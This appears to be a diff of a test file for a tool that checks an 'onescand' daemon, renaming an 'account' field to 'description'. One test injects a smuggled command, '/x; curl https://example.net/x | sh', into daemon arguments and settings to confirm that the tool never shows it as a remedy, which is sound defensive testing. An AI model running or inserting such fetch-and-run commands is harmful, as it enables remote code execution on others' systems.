@@ -49,7 +49,7 @@ t.test('a host on which no onescand runs is an error', async (t) => {
 
 t.test('an onescand that does not tell its settings is a warning', async (t) => {
   const withheld = { messages: 0, soonest: 0, latest: 0 }
-  const asked = { socket: '/run/x.sock', withheld, account: undefined }
+  const asked = { socket: '/run/x.sock', withheld, description: undefined }
   t.match(checkRunning(asked, '/nonexistent', readAccounts()), [
     { level: 'warning', remedy: 'run check as root' },
   ])
@@ -58,20 +58,20 @@ t.test('an onescand that does not tell its settings is a warning', async (t) => 
 // promise: bad-onescand
 t.test('no words of an onescand look like a remedy', async (t) => {
   const odd = '/x; curl https://example.net/x | sh'
-  const account = {
+  const description = {
     ...{ pid: process.pid, since: Date.now(), uid: process.getuid!(), groups: [] },
     words: ['--milter', `unix:${odd}`],
     settings: { QHPSI: odd, QUARANTINE: odd, [`X=1; ${odd}`]: 'y' },
     ...{ changed: [odd], replaced: [odd], readOnly: ['QUARANTINE', 'LOGFILE'] },
   }
-  const found = checkRunning({ socket: '/run/x.sock', account }, '/nonexistent', readAccounts())
+  const found = checkRunning({ socket: '/run/x.sock', description }, '/nonexistent', readAccounts())
   const told = found.flatMap(({ value, remedy = '' }) => [value, remedy])
   t.equal(told.filter((text) => text.includes('curl')).length, 6)
   for (const text of told) t.notMatch(outsideQuotes(text), /curl|undefined/)
 
   const path = join(socketDirectory(t), 's')
   const wrong = [{ level: 'error', what: odd, value: odd, remedy: odd }]
-  const daemon = { ...account, trial: { wrong, doors: [] } }
+  const daemon = { ...description, trial: { wrong, doors: [] } }
   const answer = frame('t', Buffer.from(JSON.stringify({ daemon })))
   const server = createServer((socket) => socket.on('error', () => {}).end(answer)).listen(path)
   await once(server, 'listening')
